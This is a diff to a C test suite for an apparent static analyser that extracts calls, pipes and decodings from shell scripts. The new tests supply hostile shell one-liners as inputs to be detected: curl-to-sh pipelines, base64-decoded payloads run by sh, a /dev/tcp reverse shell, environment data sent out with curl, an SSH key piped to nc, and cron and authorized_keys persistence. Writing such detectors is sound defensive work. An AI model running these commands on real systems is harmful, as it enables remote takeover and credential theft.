@@ -3,7 +3,7 @@
 
 #include "facts/code.h"
 
-/* "name(args) name(args)!": what was decoded has a "!", what goes into a pipe a "|". */
+/* "name(args)": "!" behind it: something was decoded; "<curl|tr": what it is given by; ">file", "<file", "=text" likewise. */
 static char *calls_line(const json_t *facts)
 {
 	pb_buf line = {0};
@@ -15,6 +15,12 @@ static char *calls_line(const json_t *facts)
 		size_t n = strlen(args);
 		pb_buf_printf(&line, "%s%s(%.*s)%s", i ? " " : "", pb_json_str(call, "name", "?"), (int)n - 2, args + 1,
 		              json_is_true(json_object_get(call, "decoded")) ? "!" : "");
+		static const struct {
+			const char *key, *sign;
+		} more[] = {{"from", "<"}, {"to", ">"}, {"reads", " < "}, {"input", "="}};
+		for (size_t k = 0; k < sizeof more / sizeof more[0]; k++)
+			if (json_object_get(call, more[k].key))
+				pb_buf_printf(&line, "%s%s", more[k].sign, pb_json_str(call, more[k].key, "?"));
 		free(args);
 	}
 	return line.data ? (char *)line.data : strdup("");
@@ -149,6 +155,45 @@ static void numbers(void **state)
 	json_decref(facts);
 }
 
+static void shell_words(void **state)
+{
+	assert_calls(state, "shell", "A=http://a.example.com; B=\"$A/x\"\ncurl -s \"${B}\" $C 'q r' d\\ e",
+	             "curl(\"-s\",\"http://a.example.com/x\",\"$C\",\"q r\",\"d e\")");
+	assert_calls(state, "shell", "A=1; A=2; export B=b; curl $A $B # curl c\n#curl d", "curl(\"$A\",\"b\")");
+	assert_calls(state, "shell", "c\\u'r'\"l\" x; $'\\x63url' -s; /usr/bin/curl y", "curl(\"x\") curl(\"-s\") curl(\"y\")");
+	assert_calls(state, "shell", "X=cu; Y=rl; $X$Y z", "curl(\"z\")");
+	assert_calls(state, "shell", "echo curl; 'curl; x'; case $1 in curl|wget) nc a ;; (b) nc c;; esac; curl d",
+	             "nc(\"a\") nc(\"c\") curl(\"d\")");
+	assert_calls(state, "shell", "f() { curl $1; }\nif nc a; then ! nc b; fi; for curl in $(nc c) d; do nc $curl; done",
+	             "curl(\"$1\") nc(\"a\") nc(\"b\") nc(\"c\") nc(\"$curl\")");
+	assert_calls(state, "shell", "[[ a && $(nc a) ]] && (( 1 > 2 )) || nc $((1 + 2)); sudo -n env A=b curl x",
+	             "nc(\"a\") nc(\"$((1 + 2))\") curl(\"x\")");
+}
+
+static void shell_chains(void **state)
+{
+	assert_calls(state, "shell", "curl u | tr a b | sh -s x", "curl(\"u\") sh(\"-s\",\"x\")<curl|tr");
+	assert_calls(state, "shell", "sh -c \"$(curl u)\"; eval `curl v`; bash <(wget w)",
+	             "curl(\"u\") sh(\"-c\",\"$(curl u)\")<curl curl(\"v\") eval(\"`curl v`\")<curl wget(\"w\") bash()<wget");
+	assert_calls(state, "shell", "(env; id) | curl -d @- u", "curl(\"-d\",\"@-\",\"u\")<env;id");
+	assert_calls(state, "shell", "echo 'curl u' | bash", "bash()<echo=curl u curl(\"u\")");
+	assert_calls(state, "shell", "echo Y3VybCB1 | base64 -d | sh",
+	             "base64(\"-d\")<echo=Y3VybCB1 sh()!<echo|base64=curl u curl(\"u\")");
+	assert_calls(state, "shell", "$(printf 'Y3VybA==' | base64 -d) v", "base64(\"-d\")<printf=Y3VybA== curl(\"v\")<printf|base64");
+	assert_calls(state, "shell", "sh -c 'nc a | sh'; eval nc b; bash <<E\nnc c\nE\nnc d",
+	             "sh(\"-c\",\"nc a | sh\") nc(\"a\") sh()<nc nc(\"b\") bash()=nc c\\x0a nc(\"c\") nc(\"d\")");
+	assert_calls(state, "shell", "bash -i >& /dev/tcp/198.51.100.7/9 0>&1; exec 5<>/dev/tcp/198.51.100.7/9",
+	             "bash(\"-i\")>/dev/tcp/198.51.100.7/9 exec()>/dev/tcp/198.51.100.7/9");
+	assert_calls(state, "shell", "cat >/etc/cron.d/x 2>/dev/null <<-E\n\tnc a\n\tE\nnc b < ~/.ssh/id_rsa",
+	             "cat()>/etc/cron.d/x=\\x09nc a\\x0a nc(\"b\") < ~/.ssh/id_rsa");
+	assert_calls(state, "shell", "echo k >>~/.ssh/authorized_keys; echo k >out; cp a b; cp a /etc/b",
+	             "echo(\"k\")>~/.ssh/authorized_keys cp(\"a\",\"/etc/b\")");
+	json_t *facts = facts_of_text(state, "echo \"aa\" | base64 -d | sh", "", "shell");
+	assert_json(at(facts, "code", "measures", "decode_eval", NULL), "1");
+	assert_json(at(facts, "code", "measures", "strings", NULL), "1");
+	json_decref(facts);
+}
+
 /* text, n times, between head and tail. */
 static char *repeated(const char *head, const char *text, size_t n, const char *tail)
 {
@@ -202,9 +247,38 @@ static void bombs(void **state)
 	    {"ruby", "'a'.reverse.", 20000},
 	    {"powershell", "[char]", 50000},
 	    {"python", "a\\\n", 50000},
+	    {"shell", "$(", 50000},
+	    {"shell", "`", 50001},
+	    {"shell", "\"$(", 50000},
+	    {"shell", "${a:-", 50000},
+	    {"shell", "(", 50000},
+	    {"shell", "<(", 50000},
+	    {"shell", "a|", 50000},
+	    {"shell", "cat <<E ", 20000},
+	    {"shell", "cat <<E\n", 20000},
+	    {"shell", "case a in ", 20000},
+	    {"shell", "eval 'eval ", 20000},
+	    {"shell", "A=$A$A; ", 20000},
+	    {"shell", "echo a | ", 20000},
+	    {"shell", "$((", 50000},
+	    {"shell", "echo '", 50001},
+	    {"shell", "sh -c \"", 50000},
 	};
 	for (size_t i = 0; i < sizeof all / sizeof all[0]; i++)
 		json_decref(facts_of_repeated(state, all[i].kind, "", all[i].text, all[i].n, ""));
+}
+
+/* What is put in for names costs what it is long. */
+static void values_that_grow(void **state)
+{
+	pb_buf text = {0};
+	pb_buf_printf(&text, "A=0123456789abcdef\n");
+	for (char c = 'B'; c < 'Z'; c++)
+		pb_buf_printf(&text, "%c=$%c$%c\n", c, c - 1, c - 1);
+	json_t *facts = facts_of_repeated(state, "shell", (char *)text.data, "curl $I$I\n", 100000, "curl end\n");
+	assert_json(at(facts, "cut", NULL), "[\"code\"]");
+	json_decref(facts);
+	pb_buf_free(&text);
 }
 
 static void bounds(void **state)
@@ -248,6 +322,8 @@ static const char *const sources[][2] = {
     {"ruby", "system \"a\" 'b'\neval(['6869'].pack('H*'));'aGk='.unpack1('m');x=`id`\n"},
     {"perl", "my $x=q{a}.qq(b)x;exec $x;system('c');qx{d};=pod\n\n=cut\n"},
     {"powershell", "$a='b';IEX ([char]65+\"`n\");[C]::FromBase64String($a) <# x #> -join 'a'\n"},
+    {"shell", "A=b;c $A ${A:-$(d|sh)} `e \"f$'\\x41'\"`>/etc/g <<H|sh -c 'i;j'\nk\nH\ncase l in m)n;;esac;(o)&p()\n"
+              "{ q;};[[ r ]];((1));echo ZA==|base64 -d|sh;for s in t;do u;done <(v)\n"},
 };
 
 /* Each script, cut off behind each byte: bytes of exactly that length, so that a read past the end is seen. */
@@ -329,8 +405,11 @@ int main(void)
 	    cmocka_unit_test(names_that_are_not_known),
 	    cmocka_unit_test(what_is_undone),
 	    cmocka_unit_test(texts_that_are_told),
+	    cmocka_unit_test(shell_words),
+	    cmocka_unit_test(shell_chains),
 	    cmocka_unit_test(numbers),
 	    cmocka_unit_test(bombs),
+	    cmocka_unit_test(values_that_grow),
 	    cmocka_unit_test(bounds),
 	    cmocka_unit_test(cut_off_anywhere),
 	    cmocka_unit_test(memory_runs_out),
